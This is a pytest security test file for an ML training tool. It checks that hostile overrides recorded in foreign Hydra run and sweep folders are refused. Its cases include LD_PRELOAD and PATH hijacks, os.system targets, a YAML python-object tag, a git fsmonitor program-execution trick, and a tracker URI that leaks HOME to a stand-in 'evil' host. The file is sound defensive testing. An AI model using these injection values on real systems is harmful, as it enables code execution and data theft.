"""A foreign run or sweep folder can run no command and read no secret.

A damaged one is reported in one line.
"""

import os
import subprocess
from pathlib import Path

import pytest
import yaml
from preloaded import python

from ostinato.cli.command import load_run
from ostinato.errors import ConfigError
from ostinato.record import overrides

ROOT = Path(__file__).parents[1]


def foreign(folder: Path, text: str | bytes) -> str:
    (folder / ".hydra").mkdir(parents=True)
    (folder / "config.yaml").write_text("name: x\n")
    content = text if isinstance(text, bytes) else text.encode()
    (folder / ".hydra" / "overrides.yaml").write_bytes(content)
    return str(folder)


@pytest.mark.parametrize(
    "item",
    [
        "+hydra.job.env_set={GIT_CONFIG_COUNT:1}",
        "hydra.job.env_set.PATH=/evil",
        "++hydra.job.env_set.LD_PRELOAD=/evil.so",
        "hydra/launcher=evil",
        "+hydra/callbacks=evil",
        "hydra.searchpath=[file:///evil]",
        "hydra.sweeper._target_=os.system",
        "hydra.run.dir=/evil",
        "~hydra.job_logging",
        "--config-dir=/evil",
        "-m=1",
        "resume.run=/evil",
        "resume=auto",
        "++resume.allow_drift=true",
    ],
)
def test_recorded_overrides_that_do_not_configure_the_training_are_dropped(
    item, tmp_path
):
    own, _ = overrides.for_run(
        foreign(tmp_path / "run", yaml.safe_dump([item, "seed=3"])), []
    )
    assert own == ["seed=3"]


@pytest.mark.slow
@pytest.mark.parametrize(
    "text",
    [
        "[1, 2]",
        "{a: b}",
        "seed",
        "[[seed=1]]",
        "[{seed: 1}]",
        "[null]",
        "[seed]",
        "",
        "[",
        b"\xff\xfe",
        "!!python/object/apply:os.system [x]",
        "['name=${oc.decode:${oc.env:HOME}}']",
        "['name=${hydra:job.name}']",
        "['tracker.mlflow.uri=http://evil/${oc.env:HOME}']",
        "['model.architecture._target_=os.system']",
        "[" * 5000,
    ],
)
def test_a_damaged_or_hostile_record_is_refused_in_one_line(text, tmp_path):
    with pytest.raises(ConfigError) as caught:
        overrides.for_run(foreign(tmp_path / "run", text), [])
    assert len(str(caught.value).splitlines()) == 1


def test_a_typed_value_replaces_the_recorded_one_and_a_recorded_address_is_named(
    tmp_path,
):
    folder = foreign(
        tmp_path / "run", "['tracker=mlflow', 'tracker.mlflow.uri=http://evil']"
    )
    assert overrides.for_run(folder, [])[1] == [
        f"resume={folder}: sends its data to tracker.mlflow.uri=http://evil"
    ]
    assert overrides.for_run(folder, ["tracker.mlflow.uri=http://mine"]) == (
        ["tracker=mlflow"],
        [],
    )


@pytest.mark.parametrize(
    ("hydra", "task"),
    [
        (["hydra.launcher.setup=[touch marker]"], []),
        (["hydra/launcher=evil"], []),
        (["hydra.launcher._target_=os.system"], []),
        (["+hydra.job.env_set={A:1}"], []),
        (["hydra.searchpath=[file:///evil]"], []),
        (["hydra.sweeper.params.hydra.job.env_set.A=1,2"], []),
        ([3], []),
        ([], ["+hydra.job.env_set={A:1}"]),
        ([], [["seed=1"]]),
        ([], "seed=1"),
        ([], ["name=${oc.create:x}"]),
    ],
)
def test_a_hostile_record_of_a_sweep_is_refused_in_one_line(hydra, task, tmp_path):
    record = tmp_path / "multirun.yaml"
    record.write_text(
        yaml.safe_dump({"hydra": {"overrides": {"hydra": hydra, "task": task}}})
    )
    with pytest.raises(ConfigError) as caught:
        overrides.for_sweep(record)
    assert len(str(caught.value).splitlines()) == 1


def test_the_recorded_command_of_a_sweep_is_used(tmp_path):
    record = tmp_path / "multirun.yaml"
    hydra = [
        "hydra.sweep.dir='x'",
        "hydra.mode=MULTIRUN",
        "hydra.sweeper.n_trials=3",
        "hydra.launcher.n_jobs=2",
    ]
    hydra.append("+hydra.sweeper.params.training.lr=interval(1e-5,2e-4)")
    record.write_text(
        yaml.safe_dump({"hydra": {"overrides": {"hydra": hydra, "task": ["seed=1,2"]}}})
    )
    assert overrides.for_sweep(record) == (["seed=1,2", *hydra[2:]], [])


@pytest.mark.slow
def test_resuming_a_foreign_folder_runs_no_program_that_it_names(tmp_path):
    marker, program = tmp_path / "marker", tmp_path / "program"
    program.write_text(f"#!/bin/sh\ntouch {marker}\n")
    program.chmod(0o755)
    git = f"GIT_CONFIG_COUNT:'1',GIT_CONFIG_KEY_0:core.fsmonitor,GIT_CONFIG_VALUE_0:'{program}'"
    items = [
        f"+hydra.job.env_set={{{git},GIT_EXTERNAL_DIFF:'{program}'}}",
        "experiment=debug",
        "tracker=jsonl",
    ]
    items += [
        "data.limit_train=40",
        "data.limit_val=20",
        "data.limit_test=20",
        "training.epochs=1",
    ]
    folder = foreign(tmp_path / "run", yaml.safe_dump(items))
    done = subprocess.run(
        [python(), str(ROOT / "scripts" / "train.py"), f"resume={folder}"],
        cwd=tmp_path,
        env=os.environ,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert "Traceback" not in done.stderr + done.stdout
    assert (tmp_path / "run" / "provenance.json").is_file(), done.stdout + done.stderr
    assert not marker.exists()


def test_the_config_of_a_foreign_run_names_no_kernel(tmp_path):
    (tmp_path / "config.yaml").write_text("model: {name: x, attention: evil/kernel}\n")
    with pytest.raises(ConfigError) as error:
        load_run(str(tmp_path))
    (problem,) = [line for line in error.value.problems if "kernel" in line]
    assert problem.startswith("model.attention=evil/kernel: must be one of sdpa, eager")
